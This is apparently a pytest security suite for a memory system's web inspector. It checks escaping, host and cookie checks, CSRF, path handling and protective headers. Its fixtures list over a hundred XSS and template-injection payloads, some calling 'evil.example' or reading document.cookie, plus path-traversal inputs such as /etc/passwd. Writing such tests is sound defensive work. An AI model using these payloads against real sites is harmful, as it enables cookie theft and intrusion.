"""Attacks on the inspector: from other sites, other hosts, other servers, and from remembered text."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import asdict
from datetime import datetime, timezone
from html.parser import HTMLParser

import pytest
from markupsafe import escape

from memoryos_core import MemoryConfig, MemoryOS, UserMemory, WorkerConfig
from memoryos_core.ops.inspector.identity import Identity
from memoryos_core.rules.text.words import printable
from memoryos_core.testing.postgres import LocalPostgres
from tests.surfaces.asgi import ORIGIN, PORT, TOKEN, Tab

LOGGED = MemoryConfig(worker=WorkerConfig(mode="manual"), recall_log=True)
NOON = datetime(2026, 3, 1, 12, tzinfo=timezone.utc)
VIEWS = (
    "/",
    "/overview",
    "/timeline",
    "/pages",
    "/knowledge",
    "/fact",
    "/recall",
    "/recalls",
    "/person",
    "/person.md",
    "/style.css",
)
_CODE = ("alert(1)", "fetch('//evil.example')", "document.cookie", "import('//evil.example')")
_SHAPES = (
    "<script>{0}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT><!--{0}",
    "<img src=x onerror={0}>",
    '"><img src=x onerror="{0}">',
    "'><svg onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<a href='javascript:{0}'>x</a>",
    "javascript:{0}",
    "<style>@import '//evil.example/{0}';</style>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</pre><form action=//evil.example><button>{0}",
    "<base href=//evil.example/>{0}",
    "<meta http-equiv=refresh content='0;url=//evil.example/{0}'>",
    "<math><mtext><table><mglyph><style><img src onerror={0}>",
    "{{{{ config.__class__ }}}} {0}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{0}{{% endfor %}}",
    '" onmouseover="{0}" x="',
    "' autofocus onfocus='{0}' x='",
    "<details open ontoggle={0}>",
    "\u202e<script>{0}</script>\u2066",
    "\x00<script>{0}</script>\x1b[2J",
    "<!--><script>{0}</script>-->",
    "]]><script>{0}</script>",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "%3Cscript%3E{0}%3C/script%3E",
    "&lt;script&gt;{0}&lt;/script&gt;",
)
PAYLOADS = [shape.format(code) for shape in _SHAPES for code in _CODE]

_TAGS = (
    "html head meta title link body a header p span small nav ul li main h1 h2 form label input button textarea "
    "div section meter figure svg rect polygon text figcaption article b pre ol dl dt dd sup"
)
_ATTRIBUTES = (
    "lang charset name content rel href class aria-label aria-current aria-labelledby aria-hidden id method "
    "action type value min max role viewbox x y width height points preserveaspectratio tabindex for size "
    "inputmode placeholder checked rows"
)


TAGS, ATTRIBUTES = frozenset(_TAGS.split()), frozenset(_ATTRIBUTES.split())


class Checker(HTMLParser):
    """Collects what no page of ours has: other tags, other attributes, addresses elsewhere."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            if name in {"href", "action"} and not re.match(r"/(?!/)|#|data:,\Z", value or ""):
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")


@pytest.fixture
def memory() -> Iterator[MemoryOS]:
    with MemoryOS("sqlite://", embedder=None, config=LOGGED) as memory:
        memory.user("ann").remember("Ann likes green tea.")
        yield memory


def fact_record(user: UserMemory) -> Iterator[dict[str, object]]:
    return (record for record in user.export() if record["kind"] == "fact" and record["status"] == "current")


@pytest.fixture
def tab(memory: MemoryOS) -> Tab:
    return Tab(Identity(memory, TOKEN, edit=True))


def test_there_are_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("shape", _SHAPES)
async def test_no_remembered_text_is_markup_in_any_view(shape: str, memory: MemoryOS) -> None:
    payloads = [shape.format(code) for code in _CODE]
    named = payloads[0].replace("\x00", "").replace("\x1b", "").strip()
    user = memory.user(named[:60], assistant_id=named[-40:], session_id=named[:40])
    user.governance.grant(named, "reader")
    for payload in payloads:
        user.add(f"My name is {payload} and I live in {payload}.", payload, user_name=named[:30], timestamp=NOON)
    user.end_session()
    user.consolidate()
    for payload in payloads:
        fact = user.remember(f"Ann likes {payload}")
        if fact.status == "current":
            user.correct(fact.id, f"Ann loves {payload} and tea")
    for said in ("Ann has never visited the Old Mill near", "Ann visited the Old Mill near"):
        user.remember(f"{said} {named}")
    odd = {
        "kind": "fact",
        "id": named,
        "page_ids": [],
        "text": "The zeppelin museum opens at nine.",
        "valid_from": NOON.isoformat(),
    }
    memory.restore([{"kind": "scope", **asdict(user.scope)}, {**next(fact_record(user)), **odd}])
    memory.user(named[:60], assistant_id=named[-40:], actor=named).recall("When does the zeppelin museum open?")
    assert named in user.governance.recalls()[0].ids
    assert user.governance.recalls()[0].actor == named
    tab = Tab(Identity(memory, TOKEN, edit=True))
    scope = {"user": user.scope.user_id, "assistant": user.scope.assistant_id}
    asked: list[tuple[str, dict[str, str]]] = [("/", {"q": payload}) for payload in payloads]
    asked += [(path, {**scope, "q": payload}) for path in VIEWS[1:-2] if path != "/fact" for payload in payloads]
    asked += [("/knowledge", {**scope, "kind": kind}) for kind in ("current", "former", "disputed", "held", payload)]
    asked += [("/pages", {**scope, "session": user.session_id}), ("/timeline", scope), ("/person", scope)]
    asked += [("/fact", {**scope, "id": f.id}) for f in user.facts(current=False)]
    asked += [("/pages", {**scope, "id": payload}), ("/knowledge", {**scope, "at": payload})]
    asked += [("/recall", {**scope, "q": payload, "at": "2030-01-01"})]
    asked += [("/recalls", scope), ("/recalls", {**scope, "id": payload}), ("/recalls", {**scope, "id": named})]
    seen = ""
    for path, query in asked:
        answer = await tab.get(path, **query)
        assert answer.status in {200, 400, 404}, path
        assert Checker(answer.text).found == [], path
        assert not {"\x00", "\x1b", "\u202e", "\u2066"} & set(answer.text), path
        seen += answer.text
    shown = user.facts()
    previews = [{"action": "correct", "id": fact.id, "text": payload} for fact in shown]
    previews += [{"action": action, "id": fact.id} for fact in shown for action in ("retire", "forget")]
    previews += [{"action": "forget-page", "id": page.id} for page in user.pages()]
    previews += [
        {"action": action, "id": f.id} for f in user.governance.quarantined() for action in ("release", "reject")
    ]
    for form in previews:
        answer = await tab.post({**scope, **form})
        assert answer.status == 200
        assert Checker(answer.text).found == [], form["action"]
    if user.disputes():  # some payloads are held back
        assert "contradicts" in seen
    assert all(str(escape(printable(fact.text))) in seen for fact in shown)
    assert str(escape(printable(f"by {named}"))) in seen
    user.forget(facts=[named])
    answer = await tab.get("/recalls", **scope)
    assert Checker(answer.text).found == []
    assert "forgotten" in answer.text


async def test_no_remembered_text_is_markup_in_the_exported_document(memory: MemoryOS) -> None:
    user = memory.user("mark")
    for payload in PAYLOADS[:40]:
        user.remember(f"Mark said {payload} [x](javascript:alert(1)) ![y](//evil.example) # z")
    text = (await Tab(Identity(memory, TOKEN)).get("/person.md", user="mark")).text
    for line in text.splitlines():
        bare = line.replace("\\\\", "").replace("\\<", "").replace("\\[", "").replace("\\]", "").replace("\\(", "")
        assert "<" not in bare
        assert "](" not in bare
        assert not line.startswith(("#", "```")) or line in {"# mark", "## Facts"}


@pytest.mark.parametrize(
    "host",
    [
        None,
        "",
        "evil.example",
        f"evil.example:{PORT}",
        "127.0.0.1",
        "127.0.0.1:1",
        f"127.0.0.1:{PORT}.evil.example",
        f"localhost.evil.example:{PORT}",
        f"[::1]:{PORT}",
        f"0.0.0.0:{PORT}",
        f"127.1:{PORT}",
        f"user@127.0.0.1:{PORT}",
    ],
)
async def test_another_host_is_refused_even_with_the_cookie_and_the_token(host: str | None, tab: Tab) -> None:
    for path in VIEWS:
        answer = await tab.ask("GET", path, f"token={TOKEN}", host=host)
        assert answer.status == 421
        assert "set-cookie" not in answer.headers


async def test_two_hosts_are_refused(tab: Tab) -> None:
    answer = await tab.ask("GET", "/", headers=[("host", "evil.example")])
    assert answer.status == 421


@pytest.mark.parametrize("path", VIEWS)
async def test_nothing_is_shown_without_the_cookie(path: str, tab: Tab, memory: MemoryOS) -> None:
    theirs = Tab(Identity(memory, "token-of-another-server-42"))
    wrong = (
        None,
        theirs.cookie,
        f"memoryos_inspect_{PORT}={TOKEN}",
        f"memoryos_inspect_{PORT}=",
        "x",
        "a=b; ;; =",
        "\xff=1",
    )
    for cookie in wrong:
        answer = await tab.ask("GET", path, "user=ann&q=tea", cookie=cookie)
        assert answer.status == 403, cookie
        assert "green tea" not in answer.text


@pytest.mark.parametrize("token", ["x", TOKEN[:-1], TOKEN + "x", "", "%00", TOKEN.upper(), "é"])
async def test_a_wrong_token_opens_nothing(token: str, tab: Tab) -> None:
    answer = await tab.ask("GET", "/", f"token={token}", cookie=None)
    assert answer.status == 403
    assert "set-cookie" not in answer.headers


async def test_the_token_becomes_a_cookie_and_leaves_the_address(tab: Tab) -> None:
    answer = await tab.ask("GET", "/", f"token={TOKEN}", cookie=None)
    assert (answer.status, answer.headers["location"]) == (303, "/")
    cookie = answer.headers["set-cookie"]
    assert cookie.startswith(tab.cookie)
    assert TOKEN not in cookie
    assert {"HttpOnly", "SameSite=strict", "Path=/"} <= {part.strip() for part in cookie.split(";")}
    assert (await tab.ask("GET", "/overview", f"token={TOKEN}", cookie=None)).status == 403
    assert (await tab.ask("POST", "/", f"token={TOKEN}", cookie=None)).status == 403


@pytest.mark.parametrize(
    "headers",
    [
        {"origin": "http://evil.example"},
        {"origin": "null"},
        {"origin": ""},
        {"origin": f"http://localhost:{PORT}"},
        {"origin": f"https://127.0.0.1:{PORT}"},
        {"origin": f"{ORIGIN}.evil.example"},
        {"content_length": "999999999"},
        {"content_length": "-1"},
        {"content_length": "many"},
    ],
)
async def test_a_form_from_elsewhere_changes_nothing(headers: dict[str, str], tab: Tab, memory: MemoryOS) -> None:
    fact = memory.user("ann").facts()[0]
    form = {"action": "forget", "id": fact.id, "confirmed": "yes"}
    assert (await tab.post(form, **headers)).status in {403, 413}
    assert memory.user("ann").facts() == [fact]


@pytest.mark.parametrize("csrf", ["", "x", TOKEN, "é"])
async def test_a_form_without_our_secret_changes_nothing(csrf: str, tab: Tab, memory: MemoryOS) -> None:
    fact = memory.user("ann").facts()[0]
    assert (await tab.post({"action": "forget", "id": fact.id, "confirmed": "yes", "csrf": csrf})).status == 403
    assert memory.user("ann").facts() == [fact]


async def test_a_form_of_another_users_page_cannot_leave_its_user(memory: MemoryOS) -> None:
    fact = memory.user("ann").facts()[0]
    bobs = Tab(Identity(memory, TOKEN, user="bob", edit=True))
    for user in ("ann", "bob"):
        answer = await bobs.post({"user": user, "action": "forget", "id": fact.id, "confirmed": "yes"})
        assert "green tea" not in answer.text
    assert memory.user("ann").facts() == [fact]


@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "GETX"])
async def test_other_methods_are_refused(method: str, tab: Tab) -> None:
    assert (await tab.ask(method, "/change", headers=[("origin", ORIGIN)])).status == 405


@pytest.mark.parametrize(
    "path",
    [
        "/../../etc/passwd",
        "/static/style.css",
        "/templates/base.html",
        "/style.css/../app.py",
        "//evil.example/",
        "/%2e%2e/x",
        "/overview/",
        "/.git/config",
        "/change",
        "/\\evil.example",
        "/style.css\x00.html",
        "/" + "a" * 100_000,
    ],
)
async def test_a_path_leads_to_a_view_or_nowhere(path: str, tab: Tab) -> None:
    answer = await tab.ask("GET", path)
    assert answer.status in {404, 405, 307}
    assert not answer.headers.get("location", "").startswith("//evil")
    assert "root:" not in answer.text


@pytest.mark.parametrize(
    "query",
    [
        "user=%ff%fe",
        "user=ann&user=bob",
        "user=" + "a" * 50_000,
        "user=ann&page=%00",
        "user=ann&kind[]=x",
        "user=ann&at=99999",
        "user=ann&at=2026-13-45",
        "user=ann&id=" + "x" * 20_000,
        "user=ann&q=%ed%a0%80",
        "assistant=&user=ann",
        "&&&=&",
        "user",
    ],
)
async def test_odd_questions_are_answered_or_refused(query: str, tab: Tab) -> None:
    for path in VIEWS:
        assert (await tab.ask("GET", path, query)).status in {200, 400, 404}, path


async def test_every_answer_carries_the_headers_that_protect_it(tab: Tab) -> None:
    answers = [await tab.ask("GET", path, "user=ann") for path in (*VIEWS, "/nowhere")]
    answers += [await tab.ask("GET", "/", host="evil.example"), await tab.ask("GET", "/", cookie=None)]
    for answer in answers:
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "script-src" not in policy
        assert "unsafe" not in policy
        assert "frame-ancestors 'none'" in policy
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["cache-control"] == "no-store"
        assert "server" not in answer.headers


@pytest.mark.postgres
async def test_a_server_that_goes_away_is_told_without_its_address_and_may_come_back() -> None:
    with LocalPostgres() as server, MemoryOS(server.database(), embedder=None, config=LOGGED) as memory:
        memory.user("ann").remember("Ann likes green tea.")
        tab = Tab(Identity(memory, TOKEN, edit=True))
        fact = memory.user("ann").facts()[0]
        form = {"action": "forget", "id": fact.id, "confirmed": "yes"}
        assert "green tea" in (await tab.get("/knowledge", user="ann")).text
        server.stop()
        answers = [await tab.get(path, user="ann", q="tea", id=fact.id) for path in VIEWS if path != "/style.css"]
        answers += [await tab.get("/api/stats", user="ann"), await tab.post(form)]
        for answer in answers:
            assert answer.status == 503
            assert not {"Traceback", "green tea", "postgresql"} & set(re.findall(r"green tea|\w+", answer.text))
        server.start()
        assert "green tea" in (await tab.get("/knowledge", user="ann")).text
        assert "Erased: 1 fact" in (await tab.post(form)).text
